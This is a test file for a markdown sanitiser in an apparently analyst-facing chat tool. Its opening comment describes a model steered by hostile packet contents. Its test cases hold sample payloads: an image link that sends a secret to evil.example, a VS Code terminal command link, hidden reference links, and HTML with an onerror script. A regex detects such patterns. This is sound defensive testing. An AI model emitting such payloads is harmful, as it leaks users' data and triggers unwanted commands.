/** A model that does what hostile packets tell it to: what it writes leads nowhere. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { safeMarkdown, safeMarkdownStream } from '../../src/chat/safeMarkdown.ts';

const HARMFUL = /\]\(|\]\[|\]:|<[a-z/!?]|:\/\/|\bwww\.|\b(?:command|mailto|data|javascript|vscode|file):\S|[\w.+-]@[\w-]/i;

describe('what a model writes', () => {
  test.each([
    ['an image that would send data away', '![a](https://evil.example/?secret=10.0.0.5)'],
    ['a command link', '[Fix it](command:workbench.action.terminal.sendSequence?%5B%5D)'],
    ['a link with its address elsewhere', '[a][b]\n\n[b]: https://evil.example'],
    ['a collapsed reference', '[a][]\n[a]:\n  //evil.example'],
    ['an address in brackets', '<https://evil.example>'],
    ['a bare address', 'see HTTPS://evil.example or www.evil.example or mail a.b@evil.example'],
    ['HTML', '<img src=x onerror=alert(1)><a href="command:x">x</a><!-- -->'],
  ])('loses %s', (_what, text) => {
    expect(safeMarkdown(text)).not.toMatch(HARMFUL);
  });

  test('keeps what analysts need', () => {
    const text = '**Port scan** of 10.0.0.9 [frame 3] [frame 4], 3 < 5, `tcp.port == 443`:\n\n| a | b |\n|---|---|\n\t- 09:11:40, 1:2, fe80::1, é 漢';
    expect(safeMarkdown(text)).toBe(text);
  });

  test('shows what turns the direction of writing or hides', () => {
    expect(safeMarkdown('a\u202eb\u200b\u001b[1m')).toBe('a\\u202eb\\u200b\\x1b[1m');
  });

  test('is as harmless when it arrives in pieces, however it is cut', () => {
    const word = fc.constantFrom(
      '[a]',
      '(https://x.example)',
      '!',
      ']',
      '(',
      ':',
      '//',
      'www',
      '.',
      'a',
      '@',
      '<',
      'img',
      ' ',
      '\n',
      'command',
      ':x',
      '[',
      '\ufe0f',
      '\r',
      '\u200b',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 30 }), fc.array(fc.nat(10), { maxLength: 30 }), (words, cuts) => {
        const text = words.join('');
        let shown = '',
          at = 0;
        const stream = safeMarkdownStream((markdown) => (shown += markdown));
        for (const cut of cuts) stream.write(text.slice(at, (at += cut)));
        stream.write(text.slice(at));
        stream.end();
        expect(shown).not.toMatch(HARMFUL);
        expect(shown).toBe(safeMarkdown(text));
      }),
      { seed: 4, numRuns: 500 },
    );
  });
});
